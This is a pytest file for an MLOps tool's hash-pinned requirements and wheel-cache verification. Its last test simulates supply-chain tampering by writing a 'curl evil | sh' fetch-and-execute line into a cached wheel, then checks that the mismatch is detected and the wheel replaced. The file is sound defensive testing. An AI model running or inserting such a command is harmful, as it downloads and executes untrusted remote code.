"""Hash-pinned requirements: parsing, serving.txt derived from the lock, and the serving wheel
cache checked against the hashes before every build (issue #13)."""

from __future__ import annotations

import hashlib
import logging
from pathlib import Path

import pytest

from rice_mlops.release import wheels as image_wheels
from rice_mlops.release.pins import parse, unverified_wheels, write_serving


def _wheel(directory: Path, name: str, version: str, content: bytes) -> tuple[Path, str]:
    path = directory / f"{name}-{version}-py3-none-any.whl"
    path.write_bytes(content)
    return path, hashlib.sha256(content).hexdigest()


def test_serving_is_rehashed_from_the_lock_including_plain_lines(tmp_path):
    lock = tmp_path / "lock.txt"
    lock.write_text("numpy==2.4.6 \\\n    --hash=sha256:" + "a" * 64 + " \\\n"
                    "    --hash=sha256:" + "b" * 64 + "\nuvicorn==0.40.0 \\\n"
                    "    --hash=sha256:" + "c" * 64 + "\n")
    serving = tmp_path / "serving.txt"
    # As another engineer leaves it: hashed lines plus a plain one added by hand.
    serving.write_text("# the image's packages\nnumpy==2.4.6 \\\n    --hash=sha256:" + "a" * 64 +
                       "\nuvicorn==0.40.0\n")
    assert write_serving(lock, serving) == 2
    pins = parse(serving)
    assert pins["numpy"].hashes == {"a" * 64, "b" * 64}
    assert pins["uvicorn"].hashes == {"c" * 64}
    assert serving.read_text().startswith("# the image's packages\n")


def test_a_serving_pin_the_lock_does_not_vouch_for_is_refused(tmp_path):
    lock = tmp_path / "lock.txt"
    lock.write_text("numpy==2.4.6 --hash=sha256:" + "a" * 64 + "\n")
    serving = tmp_path / "serving.txt"
    serving.write_text("numpy==2.4.5\nhttptools==0.7.1\n")
    with pytest.raises(SystemExit, match=r"numpy==2.4.5 \(the lock has 2.4.6\).*httptools"):
        write_serving(lock, serving)


def test_unverified_wheels_names_each_problem(tmp_path):
    good, good_hash = _wheel(tmp_path, "orjson", "3.13.0", b"orjson")
    _, _ = _wheel(tmp_path, "stranger", "1.0", b"x")
    requirements = tmp_path / "req.txt"
    requirements.write_text(f"orjson==3.13.0 --hash=sha256:{good_hash}\n"
                            f"pillow==13.0.0 --hash=sha256:{'d' * 64}\n")
    assert unverified_wheels(tmp_path, requirements) == [
        "stranger-1.0-py3-none-any.whl: not in the requirements", "pillow==13.0.0: no wheel"]
    good.write_bytes(b"orjson, but not the one the lock names")
    assert "orjson-3.13.0-py3-none-any.whl: sha256 does not match the lock" in \
        unverified_wheels(tmp_path, requirements)


def test_a_tampered_cached_wheel_is_detected_and_replaced(tmp_path, monkeypatch, caplog):
    source = tmp_path / "index"
    source.mkdir()
    wheel, digest = _wheel(source, "orjson", "3.13.0", b"the real orjson wheel")
    pip, pip_digest = _wheel(source, "pip", "26.3", b"the real pip wheel")
    requirements = tmp_path / "serving.txt"
    requirements.write_text(f"orjson==3.13.0 --hash=sha256:{digest}\n")
    installer = tmp_path / "installer.txt"
    installer.write_text(f"pip==26.3 --hash=sha256:{pip_digest}\n")
    downloads = []

    def fake_download(dest, requirements, machine=None, wheelhouse=None):
        downloads.append(dest)
        dest.mkdir(parents=True, exist_ok=True)
        for path in (wheel, pip):
            (dest / path.name).write_bytes(path.read_bytes())
        return sorted(dest.glob("*.whl"))

    monkeypatch.setattr(image_wheels, "download_wheels", fake_download)
    monkeypatch.setattr(image_wheels, "INSTALLER_REQUIREMENTS", installer)
    cache_root = tmp_path / "staging"
    image_wheels.vendor_wheels(tmp_path / "ctx1", cache_root, requirements, machine="x86_64")
    assert len(downloads) == 1
    image_wheels.vendor_wheels(tmp_path / "ctx2", cache_root, requirements, machine="x86_64")
    assert len(downloads) == 1  # a clean cache is reused

    # Someone who can write to the staging directory swaps the wheel's content.
    (cached,) = [p for p in cache_root.glob("wheels-*/orjson-*.whl")]
    cached.unlink()  # a new file: the build contexts' hard links keep the old content
    cached.write_bytes(b"import os; os.system('curl evil | sh')")
    with caplog.at_level(logging.WARNING, logger="rice_mlops.release.wheels"):
        wheels = image_wheels.vendor_wheels(tmp_path / "ctx3", cache_root, requirements,
                                     machine="x86_64")
    assert len(downloads) == 2, "the tampered cache was reused"
    assert "sha256 does not match the lock" in caplog.text
    built = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in wheels}
    assert built["orjson-3.13.0-py3-none-any.whl"] == digest
    assert unverified_wheels(next(cache_root.glob("wheels-*")), requirements, installer) == []
    assert not list(cache_root.glob(".wheels-*unverified*"))
